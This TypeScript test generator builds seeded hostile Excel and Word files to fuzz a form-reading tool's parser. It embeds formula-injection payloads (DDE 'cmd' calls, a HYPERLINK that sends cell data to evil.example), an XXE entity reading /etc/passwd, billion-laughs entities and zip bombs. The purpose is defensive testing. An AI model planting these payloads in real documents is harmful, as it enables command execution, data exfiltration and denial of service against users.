/**
 * A seeded, reproducible generator of hostile and unlucky workbooks (issue #13): the same seed gives the same files.
 * Most are a real form workbook (made once by `bieumau new --from` the sample) with one part rewritten: value cells
 * holding long decimals, huge digit strings, control characters, formula-looking strings; merges, defined names,
 * filters and validations over whole sheets; zip bombs; truncated or bit-flipped zips; and files that are no workbook
 * at all (.xls, .doc, encrypted OLE, empty, random bytes). Nothing binary is committed: every file is made here.
 */
import { execFileSync } from "child_process";
import { symlinkSync, writeFileSync } from "fs";
import { join } from "path";
import { strFromU8, strToU8, unzipSync, zipSync, type Zippable } from "fflate";
import { compoundFile } from "../cli/cfb";
import { addDefinedName, addMerges, afterSheetData, BIG_CASES, bigWorkbook, deflateBomb, WHOLE, zipRaw, type RawPart } from "./hostile-big";

/** mulberry32: a small seeded PRNG, so a failing file can be made again from its seed and index. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface GenOptions {
  /**
   * Ranges over whole sheets (merges, defined names, filters, validations) and zip bombs past the part limit. The
   * exceljs reader expands ranges cell by cell, so these are only made when the lean reader (src/io/xlsx-read.ts)
   * reads the files.
   */
  bigRanges: boolean;
  /** FIFOs and /dev/zero symlinks named .xlsx: only once the reader refuses what is not a regular file. */
  specialFiles: boolean;
  /**
   * How many times the first files go through every large case of hostile-big.ts in order (with bigRanges; the
   * special files only with specialFiles), before the seeded mix: so even a short run has each of them.
   */
  bigRounds?: number;
  /**
   * A real Word report's bytes (the sample): when given, about one file in eight is a hostile .docx made from it
   * (issue #13: the same guarantees for .docx inputs).
   */
  docx?: Uint8Array;
}

export interface HostileFile {
  name: string;
  kind: string;
  /** Strings put into cells that must never come back as a formula in any output. */
  payloads: string[];
}

type Rand = () => number;
/** Zip entries carry a time: a fixed one keeps the same seed's files byte for byte the same. */
const FIXED_TIME = new Date("2024-07-01T00:00:00Z");
const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
const int = (r: Rand, lo: number, hi: number) => lo + Math.floor(r() * (hi - lo + 1));

/** Texts a clerk, a broken tool or an attacker could leave in a value cell. */
function hostileText(r: Rand): string {
  switch (int(r, 0, 11)) {
    case 0:
      return `0,${"0".repeat(int(r, 380, 3000))}1`;
    case 1:
      return "9".repeat(pick(r, [65, 400, 5000, 32767]));
    case 2:
      return `${"1".repeat(int(r, 1, 40))}.${"234".repeat(int(r, 1, 200))},5`;
    case 3:
      return pick(r, ["\u001b[2J\u001b[H", "\u001b]0;pwned\u0007", "a\rb", "\u202eevil", "\u0000\u0001\u0002", "\u009b31m"]) + String(int(r, 0, 99));
    case 4:
      return pick(r, ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"bấm vào\")", "=1+1", "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://x\")"]);
    case 5:
      return pick(r, ["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-0"]);
    case 6:
      return Array.from({ length: int(r, 1, 80) }, () => pick(r, ["1", "0", ".", ",", "-", "+", "%", " ", "e", "\u00a0", "٣", "１"])).join("");
    case 7:
      return "x".repeat(pick(r, [100, 32767]));
    case 8:
      return pick(r, ["1e308", "1e-400", "-1e999", "NaN", "Infinity", "0x1F", "1_000", "١٢٣"]);
    case 9:
      return `${int(r, 0, 999)},${"9".repeat(int(r, 1, 500))}%`;
    case 10:
      return pick(r, ["#DIV/0!", "#REF!", "#N/A", "TRUE", ""]);
    default:
      return String.fromCharCode(...Array.from({ length: int(r, 1, 30) }, () => int(r, 0, 0x2fff)));
  }
}

/** XML text for a cell string: &, <, > escaped; characters XML 1.0 cannot hold written as Excel's _xHHHH_. */
function xmlText(s: string): string {
  return s
    .replace(/_(x[0-9A-Fa-f]{4}_)/g, "_x005F_$1")
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    // eslint-disable-next-line no-control-regex
    .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDFFF]/g, (c) => `_x${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}_`);
}

/** Replaces value cells (column D, the forms' value column) with inline strings. */
function injectCells(xml: string, r: Rand, payloads: string[]): string {
  let count = 0;
  const want = int(r, 1, 6);
  return xml.replace(/<c r="D(\d+)"([^>]*?)(\/>|>[\s\S]*?<\/c>)/g, (whole, row: string) => {
    if (Number(row) < 9 || count >= want || r() < 0.5) return whole;
    count++;
    const text = hostileText(r);
    payloads.push(text);
    return `<c r="D${row}" t="inlineStr"><is><t xml:space="preserve">${xmlText(text)}</t></is></c>`;
  });
}

/**
 * `mb` MB of spaces after `marker` in a part. Large ones are written as a ready deflate stream (hostile-big's
 * deflateBomb: milliseconds, where deflating 64 MB takes a second) with their true size declared.
 */
function bombPart(parts: Record<string, Uint8Array>, raw: Record<string, RawPart>, part: string, marker: string, mb: number): void {
  const xml = strFromU8(parts[part]);
  const at = xml.indexOf(marker) + marker.length;
  const spaces = mb * 1024 * 1024;
  if (mb < 16) {
    parts[part] = strToU8(xml.slice(0, at) + " ".repeat(spaces) + xml.slice(at));
    return;
  }
  const [head, tail] = [xml.slice(0, at), xml.slice(at)];
  raw[part] = { deflated: deflateBomb(head, spaces, tail), size: strToU8(head).length + spaces + strToU8(tail).length, crc: 0 };
  delete parts[part];
}

/** The package's bytes: zipped as usual, or with ready-deflated parts when there are any. */
function packageBytes(parts: Zippable, raw: Record<string, RawPart>): Uint8Array {
  if (Object.keys(raw).length === 0) return zipSync(parts, { level: 6, mtime: FIXED_TIME });
  return zipRaw({ ...(parts as Record<string, Uint8Array>), ...raw });
}

/** Rewrites one part of the base package; returns the kind made. */
function mutatePackage(parts: Record<string, Uint8Array>, r: Rand, opts: GenOptions, payloads: string[], raw: Record<string, RawPart>): string {
  const sheet = pick(r, ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"]);
  const text = (p: string) => strFromU8(parts[p]);
  const set = (p: string, s: string) => (parts[p] = strToU8(s));
  const choices = ["cells", "cells", "cells", "cells", "shared", "merges", "names", "filter", "validation", "rows", "no_refs", "bomb", "drop_part", "bad_xml", "entities"];
  const kind = pick(r, choices);
  const big = opts.bigRanges;
  switch (kind) {
    case "cells":
      set(sheet, injectCells(text(sheet), r, payloads));
      break;
    case "shared": {
      // Hostile texts in the shared strings: labels, units and notes the report quotes.
      const strings = text("xl/sharedStrings.xml");
      let n = 0;
      set("xl/sharedStrings.xml", strings.replace(/<t( xml:space="preserve")?>([^<]*)<\/t>/g, (whole) => {
        if (n++ > 40 || r() < 0.8) return whole;
        const t = hostileText(r);
        payloads.push(t);
        return `<t xml:space="preserve">${xmlText(t)}</t>`;
      }));
      break;
    }
    case "merges":
      set(sheet, addMerges(text(sheet), big ? pick(r, [[WHOLE], ["A:XFD"], Array.from({ length: 20000 }, (_, i) => `F${i + 1}:G${i + 1}`)]) : [pick(r, ["F1:Z200", "G5:H9", "A40:C45"])], 999));
      break;
    case "names": {
      const s = pick(r, ["'Biểu mẫu 1'", "'Biểu mẫu 3'", "'Biểu mẫu 7'", "Nowhere"]);
      const ref = big ? `${s}!$A$1:$XFD$1048576` : `${s}!$A$1:$Z$300`;
      set("xl/workbook.xml", addDefinedName(text("xl/workbook.xml"), pick(r, ["Vung", "BieuMau_BM1_CCHC_PL_2022", "_xlnm.Print_Titles"]), xmlText(ref)));
      break;
    }
    case "filter": {
      const ref = big ? "A:XFD" : "A7:E40";
      set(sheet, afterSheetData(text(sheet), `<autoFilter ref="${ref}"/>`));
      set("xl/workbook.xml", addDefinedName(text("xl/workbook.xml"), "_xlnm._FilterDatabase", `'Biểu mẫu 1'!$A:$XFD`.replace(/'/g, "&apos;")));
      break;
    }
    case "validation": {
      const ref = big ? WHOLE : "D9:D40";
      set(sheet, text(sheet).replace("<pageMargins", `<dataValidations count="1"><dataValidation type="whole" allowBlank="1" sqref="${ref}"><formula1>0</formula1><formula2>9</formula2></dataValidation></dataValidations><pageMargins`));
      break;
    }
    case "rows": {
      // Rows out of order, a row at the sheet's last line, and a cell far to the right.
      const far = big ? pick(r, ["1048576", "500000"]) : "6000";
      set(sheet, text(sheet).replace("</sheetData>", `<row r="${far}"><c r="XFD${far}"><v>1</v></c></row><row r="3"><c r="A3"><v>2</v></c></row></sheetData>`));
      break;
    }
    case "no_refs":
      // Cells and rows without addresses (allowed by the standard: they follow the previous one).
      set(sheet, text(sheet).replace(/ r="[A-Z]+\d+"/g, (m) => (r() < 0.5 ? "" : m)).replace(/<row r="\d+"/g, (m) => (r() < 0.3 ? "<row" : m)));
      break;
    case "bomb": {
      // A part that inflates far beyond its size (a zip bomb); below the exceljs survivable size until the lean reader.
      const mb = big ? pick(r, [60, 64]) : pick(r, [2, 8]); // just past the 50 MB part limit: cheap to make, still refused
      bombPart(parts, raw, sheet, "<sheetData>", mb);
      break;
    }
    case "drop_part":
      delete parts[pick(r, ["xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels", sheet])];
      break;
    case "bad_xml":
      set(sheet, text(sheet).slice(0, int(r, 10, text(sheet).length - 10)));
      break;
    case "entities":
      // An external entity and a billion-laughs: no entity beyond XML's own is ever expanded or fetched.
      set(sheet, text(sheet).replace("<worksheet", `<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet`).replace(/<v>17<\/v>/, "<v>&xxe;&b;</v>"));
      break;
  }
  return `xlsx:${kind}`;
}

/** Word text for a run: &, <, > escaped; characters XML 1.0 cannot hold dropped (Word has no escape for them). */
function wordText(s: string): string {
  return s
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    // eslint-disable-next-line no-control-regex
    .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDFFF]/g, "");
}

/** Rewrites one part of the sample Word report; returns the kind made. */
function mutateDocx(parts: Record<string, Uint8Array>, r: Rand, big: boolean, payloads: string[], raw: Record<string, RawPart>): string {
  const DOC = "word/document.xml";
  const text = (p: string) => strFromU8(parts[p]);
  const set = (p: string, s: string) => (parts[p] = strToU8(s));
  const doc = text(DOC);
  const kind = pick(r, ["cells", "cells", "text", "bomb", "rows", "nested", "span", "vmerge", "numbering", "entities", "bad_xml", "drop_part"]);
  switch (kind) {
    case "cells": {
      // Hostile values in the appendix's value cells (and anywhere else a table holds text).
      let n = 0;
      set(DOC, doc.replace(/(<w:tc>[\s\S]*?<w:t(?: [^>]*)?>)([^<]*)(<\/w:t>)/g, (whole, a: string, _t: string, b: string) => {
        if (n++ > 400 || r() < 0.9) return whole;
        const t = hostileText(r);
        payloads.push(t);
        return `${a}${wordText(t)}${b}`;
      }));
      break;
    }
    case "text": {
      // Figures in the report's own sentences: long digit strings, control characters, formula-looking text.
      let n = 0;
      set(DOC, doc.replace(/<w:t(?: [^>]*)?>([^<]*\d[^<]*)<\/w:t>/g, (whole) => {
        if (n++ > 200 || r() < 0.8) return whole;
        const t = hostileText(r);
        payloads.push(t);
        return `<w:t xml:space="preserve">${wordText(t)}</w:t>`;
      }));
      break;
    }
    case "bomb":
      bombPart(parts, raw, DOC, "<w:body>", big ? pick(r, [60, 64]) : pick(r, [2, 8]));
      break;
    case "rows": {
      // One table's last row repeated far past the reader's 5,000 rows per table.
      const end = doc.indexOf("</w:tbl>");
      const last = doc.lastIndexOf("<w:tr", end);
      const row = doc.slice(last, doc.lastIndexOf("</w:tr>", end) + "</w:tr>".length);
      set(DOC, doc.slice(0, last) + row.repeat(big ? 20_000 : 3_000) + doc.slice(last));
      break;
    }
    case "nested": {
      // A table nested in a cell of a table … thousands deep.
      const depth = big ? 5_000 : 300;
      const open = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p>";
      const close = "<w:p/></w:tc></w:tr></w:tbl>";
      set(DOC, doc.replace("<w:body>", `<w:body>${open.repeat(depth)}${close.repeat(depth)}<w:p/>`));
      break;
    }
    case "span":
      set(DOC, doc.replace(/<w:gridSpan w:val="2"\/>/g, () => `<w:gridSpan w:val="${pick(r, ["1000000", "-5", "abc", "16384", "2", "0"])}"/>`).replace(/<w:tr>/, `<w:tr><w:trPr><w:gridBefore w:val="${pick(r, ["99999999", "-1", "x"])}"/></w:trPr>`));
      break;
    case "vmerge":
      // Every cell a continuation, none a restart; and restarts with nothing below.
      set(DOC, doc.replace(/<w:tcPr>/g, () => `<w:tcPr><w:vMerge${r() < 0.5 ? "" : ` w:val="restart"`}/>`));
      break;
    case "numbering": {
      // Numbering levels that count past any STT, formats that repeat themselves, and a list of 20,000 definitions.
      const levels = Array.from({ length: 9 }, (_, i) => `<w:lvl w:ilvl="${i}"><w:start w:val="${pick(r, ["99999999999", "-3", "1"])}"/><w:numFmt w:val="${pick(r, ["decimal", "lowerLetter", "upperRoman", "bullet", "nonsense"])}"/><w:lvlText w:val="${"%1.%2.%9".repeat(int(r, 1, 400))}"/></w:lvl>`).join("");
      const defs = Array.from({ length: big ? 20_000 : 200 }, (_, i) => `<w:num w:numId="${i + 1}"><w:abstractNumId w:val="${i % 3}"/></w:num>`).join("");
      set("word/numbering.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="0">${levels}</w:abstractNum>${defs}</w:numbering>`);
      set(DOC, doc.replace(/<w:pPr>/g, () => (r() < 0.3 ? `<w:pPr><w:numPr><w:ilvl w:val="${int(r, 0, 12)}"/><w:numId w:val="${int(r, 0, 30)}"/></w:numPr>` : "<w:pPr>")));
      break;
    }
    case "entities":
      set(DOC, doc.replace("<w:document", `<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document`).replace(/<w:t>([^<]*)<\/w:t>/, "<w:t>&xxe;&b;</w:t>"));
      break;
    case "bad_xml":
      set(DOC, doc.slice(0, int(r, 10, doc.length - 10)));
      break;
    case "drop_part":
      delete parts[pick(r, [DOC, "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/numbering.xml", "word/styles.xml"])];
      break;
  }
  return `docx:${kind}`;
}

/** Files that are not a workbook package at all, or a package damaged as a whole. */
function otherFile(base: Uint8Array, r: Rand): { kind: string; bytes: Uint8Array } {
  switch (int(r, 0, 8)) {
    case 0:
      return { kind: "truncated", bytes: base.subarray(0, int(r, 0, base.length - 1)) };
    case 1: {
      const b = Uint8Array.from(base);
      for (let i = int(r, 1, 20); i > 0; i--) b[int(r, 0, b.length - 1)] ^= 1 << int(r, 0, 7);
      return { kind: "bitflip", bytes: b };
    }
    case 2:
      return { kind: "xls", bytes: compoundFile(["Workbook", "\u0005SummaryInformation"]) };
    case 3:
      return { kind: "doc", bytes: compoundFile(["WordDocument", "1Table"]) };
    case 4:
      return { kind: "encrypted", bytes: compoundFile(["EncryptionInfo", "EncryptedPackage"]) };
    case 5:
      return { kind: "empty", bytes: new Uint8Array(0) };
    case 6:
      return { kind: "random", bytes: Uint8Array.from({ length: int(r, 1, 4096) }, () => int(r, 0, 255)) };
    case 7:
      return { kind: "ods", bytes: zipSync({ mimetype: strToU8("application/vnd.oasis.opendocument.spreadsheet"), "content.xml": strToU8("<office:document-content/>") }, { mtime: FIXED_TIME }) };
    default:
      return { kind: "text", bytes: strToU8("STT\tChỉ tiêu\tSố liệu\n1\t=HYPERLINK(\"x\")\t17\n") };
  }
}

/** Writes `count` hostile files into `dir` from `base` (a real form workbook's bytes). Same seed, same files. */
export function generateHostile(dir: string, base: Uint8Array, count: number, seed: number, opts: GenOptions): HostileFile[] {
  const parts = unzipSync(base);
  const docParts = opts.docx ? unzipSync(opts.docx) : null;
  // The base is made afresh each run; its only varying part is the creation time.
  if (parts["docProps/core.xml"]) parts["docProps/core.xml"] = strToU8(strFromU8(parts["docProps/core.xml"]).replace(/(<dcterms:(?:created|modified)[^>]*>)[^<]*/g, "$12024-07-01T00:00:00Z"));
  const out: HostileFile[] = [];
  const rounds = opts.bigRanges ? (opts.bigRounds ?? 1) : 0;
  for (let i = 0; i < count; i++) {
    const r = prng(seed * 100003 + i);
    let name = `f${String(i).padStart(5, "0")}.xlsx`;
    let path = join(dir, name);
    const payloads: string[] = [];
    let kind: string;
    const roll = r();
    const big = i < rounds * BIG_CASES.length ? BIG_CASES[i % BIG_CASES.length] : undefined;
    if (big === "fifo" || big === "devzero" || big === "devurandom") {
      if (!opts.specialFiles) continue;
      if (big === "fifo") execFileSync("mkfifo", [path]);
      else symlinkSync(big === "devzero" ? "/dev/zero" : "/dev/urandom", path);
      kind = big;
    } else if (big) {
      writeFileSync(path, bigWorkbook({ ...parts }, big));
      kind = `big:${big}`;
    } else if (opts.specialFiles && roll < 0.02) {
      if (r() < 0.5) {
        execFileSync("mkfifo", [path]); // Node has no mkfifo of its own
        kind = "fifo";
      } else {
        symlinkSync(pick(r, ["/dev/zero", "/dev/urandom"]), path);
        kind = "devzero";
      }
    } else if (docParts && roll >= 0.875) {
      // A Word report: the sample rewritten, or a file that is no Word document named .docx.
      name = name.replace(/\.xlsx$/, ".docx");
      path = join(dir, name);
      if (r() < 0.8) {
        const copy: Zippable = { ...docParts };
        const raw: Record<string, RawPart> = {};
        kind = mutateDocx(copy as Record<string, Uint8Array>, r, opts.bigRanges, payloads, raw);
        writeFileSync(path, packageBytes(copy, raw));
      } else {
        const other = otherFile(r() < 0.5 ? opts.docx! : base, r);
        kind = `docx:${other.kind}`;
        writeFileSync(path, other.bytes);
      }
    } else if (roll < 0.75) {
      const copy: Zippable = { ...parts };
      const raw: Record<string, RawPart> = {};
      kind = mutatePackage(copy as Record<string, Uint8Array>, r, opts, payloads, raw);
      writeFileSync(path, packageBytes(copy, raw));
    } else {
      const other = otherFile(base, r);
      kind = other.kind;
      writeFileSync(path, other.bytes);
    }
    out.push({ name, kind, payloads });
  }
  return out;
}
